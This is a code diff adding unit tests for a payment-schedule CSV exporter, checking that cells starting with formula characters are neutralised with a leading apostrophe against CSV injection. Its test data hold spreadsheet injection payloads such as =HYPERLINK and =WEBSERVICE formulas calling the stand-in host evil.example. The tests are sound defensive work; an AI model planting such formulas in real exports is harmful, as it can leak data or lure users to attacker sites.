@@ -1,4 +1,4 @@
-import { scheduleCsv } from '@edge/exports/schedule-csv';
+import { csvCell, scheduleCsv } from '@edge/exports/schedule-csv';
 import { scheduleIcs } from '@edge/exports/schedule-ics';
 import type { Contract, ScheduleRow } from '@edge/upstream/contracts';
 import ICAL from 'ical.js';
@@ -88,5 +88,35 @@ describe('schedule iCalendar', () => {
 
   it('folds long lines at 75 octets without splitting a character', () => {
     for (const line of ics.split('\r\n')) expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75);
+  });
+});
+
+describe('schedule CSV against formula injection (OWASP «CSV injection»)', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example","Оплатить")', `"'=HYPERLINK(""http://evil.example"",""Оплатить"")"`],
+    ['+7 (900) 000-00-01', "'+7 (900) 000-00-01"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
+    ['\tтабуляция', "'\tтабуляция"],
+    ['\r=1+1', `"'\r=1+1"`],
+    ['-', "'-"],
+  ])('neutralises %j with a leading apostrophe', (raw, written) => {
+    expect(csvCell(raw)).toBe(written);
+  });
+
+  it.each(['-1234,50', '+7', '-0.5', '120393,13', 'ЛД-2025-0147', 'Оплачен', ''])('keeps %j as it is', (raw) => {
+    expect(csvCell(raw)).toBe(raw);
+  });
+
+  it('neutralises upstream text in every row, numbers stay numbers', () => {
+    const csv = scheduleCsv({ ...contract, number: '=1+1', car: { name: '@cmd', year: 2025 } } as Contract, [
+      row({ kind: { slug: 'monthly', name: '=WEBSERVICE("http://evil.example")' }, balance: -5 }),
+    ]);
+    const lines = csv.split('\r\n');
+    expect(lines[0]).toBe('\uFEFFГрафик платежей по договору № =1+1 от 20.06.2025');
+    expect(lines[1]).toBe("'@cmd, 2025");
+    expect(lines[4]).toBe(
+      `17;"'=WEBSERVICE(""http://evil.example"")";20.11.2026;120393,13;87483,27;32909,86;22;21710,24;-5,00;Ожидает оплаты;`,
+    );
   });
 });
